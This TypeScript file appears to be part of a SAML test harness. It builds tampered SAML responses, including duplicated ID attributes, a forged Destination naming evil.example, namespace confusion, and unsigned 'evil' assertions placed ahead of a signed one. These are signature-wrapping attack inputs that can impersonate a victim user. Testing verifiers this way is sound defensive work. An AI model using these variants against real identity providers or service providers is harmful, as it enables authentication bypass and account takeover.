import { namespaces } from '../../stack/saml/names'
import { replaced, withAttribute } from './edits'
import {
  aboutVictim,
  holding,
  type Pieces,
  signedAssertion,
  takeApart,
  tampered,
  type Variants,
  victim,
} from './variant'

/** Two attributes that both look like the id, so that the verifier finds one element and the reader another. */
export const attributePollution: Variants = {
  'attr-pollution-prefixed-id': twin(' xmlns:x="urn:x" x:ID='),
  'attr-pollution-saml-id': twin(' saml:ID='),
  'attr-pollution-id-case': twin(' Id='),
  'attr-pollution-id-lower': twin(' id='),
  'attr-pollution-xml-id': twin(' xml:id='),
  'attr-pollution-assertion-id': twin(' AssertionID='),
  'attr-pollution-both': tampered((xml) => {
    const p = takeApart(xml)
    const id = idOf(p.assertion)
    return holding(p, replaced(' ID=', ` xmlns:x="urn:x" x:ID="${id}" ID=`)(p.evil) + p.assertion)
  }),
  'attr-pollution-response': tampered(withAttribute('samlp:Response', 'Id', '_x')),
  'attr-pollution-subject': tampered((xml) => withAttribute('saml:Subject', 'ID', idOf(takeApart(xml).assertion))(xml)),
  'attr-pollution-signature-id': tampered((xml) =>
    withAttribute('ds:Signature', 'Id', idOf(takeApart(xml).assertion))(xml),
  ),
  'attr-pollution-two-prefixes': signedAssertion(
    replaced('<saml:Subject>', '<saml:Subject xmlns:a="urn:x" xmlns:b="urn:x" a:k="1" b:k="2">'),
  ),
  'attr-pollution-confirmation': tampered(
    replaced('<saml:SubjectConfirmation ', '<saml:SubjectConfirmation saml:Method="x" '),
  ),
  'dup-attribute-id': tampered(replaced(/<saml:Assertion /, '<saml:Assertion ID="_x" ')),
  'dup-attribute-name': tampered(replaced('<saml:Attribute ', '<saml:Attribute Name="other" '), aboutVictim),
  'dup-attribute-destination': tampered(replaced(' Destination=', ' Destination="https://evil.example/" Destination=')),
}

/** Elements that are in another namespace than they seem, or in none. */
export const namespaceConfusion: Variants = {
  'ns-assertion-saml1': beside((p) => p.evil.replaceAll(namespaces.assertion, 'urn:oasis:names:tc:SAML:1.0:assertion')),
  'ns-assertion-none': beside((p) => replaced(/ xmlns:saml="[^"]*"/, '')(p.evil).replaceAll('saml:', '')),
  'ns-assertion-default': beside((p) => p.evil.replaceAll('saml:', '').replace('xmlns:saml=', 'xmlns=')),
  'ns-assertion-lookalike': beside((p) => p.evil.replaceAll(namespaces.assertion, `${namespaces.assertion}/`)),
  'ns-assertion-protocol': beside((p) => p.evil.replaceAll(namespaces.assertion, namespaces.protocol)),
  'ns-assertion-prefix-case': beside((p) => p.evil.replaceAll('saml:', 'SAML:').replace('xmlns:saml=', 'xmlns:SAML=')),
  'ns-prefix-rebound': tampered(replaced('<saml:Subject>', '<saml:Subject xmlns:saml="urn:x">')),
  'ns-response-other': tampered(replaced(namespaces.protocol, 'urn:oasis:names:tc:SAML:1.0:protocol')),
  'ns-response-none': tampered((xml) => xml.replace(/ xmlns:samlp="[^"]*"/, '').replaceAll('samlp:', '')),
  'ns-unbound-prefix': tampered(replaced('</samlp:Response>', '<y:x/></samlp:Response>')),
  'ns-xmlns-prefix': tampered(replaced('<samlp:Status>', '<samlp:Status xmlns:xmlns="urn:x">')),
  'ns-xml-prefix': tampered(replaced('<samlp:Status>', '<samlp:Status xmlns:xml="urn:x">')),
  'ns-undeclared-prefix': tampered(replaced('<samlp:Status>', '<samlp:Status xmlns:y="">')),
  'ns-relative': tampered(replaced('<samlp:Status>', '<samlp:Status xmlns:y="relative/../name">')),
  'ns-entity': tampered(replaced('<samlp:Status>', '<samlp:Status xmlns:y="&unknown;">')),
  'ns-two-colons': tampered(replaced('</samlp:Response>', '<saml:x:y xmlns:saml="urn:x"/></samlp:Response>')),
  'ns-signature-other': beside(
    (p) => replaced(/http:\/\/www\.w3\.org\/2000\/09\/xmldsig#/, 'urn:x')(p.signature) + p.evil,
  ),
  'ns-nameid-other-signed': signedAssertion(
    replaced(/<saml:NameID.*<\/saml:NameID>/, `<x:NameID xmlns:x="urn:x">${victim.nameId}</x:NameID>`),
  ),
}

/** A twin of the signed id, under another name for an id, in front of the signed assertion. */
function twin(idAttribute: string) {
  return tampered((xml) => {
    const pieces = takeApart(xml)
    return holding(pieces, replaced(' ID=', idAttribute)(pieces.evilTwin) + pieces.assertion)
  })
}

/** Something evil in front of the signed assertion. */
function beside(other: (pieces: Pieces) => string) {
  return tampered((xml) => {
    const pieces = takeApart(xml)
    return holding(pieces, other(pieces) + pieces.assertion)
  })
}

function idOf(xml: string): string {
  return /^<[^>]* ID="([^"]+)"/.exec(xml)?.[1] ?? ''
}
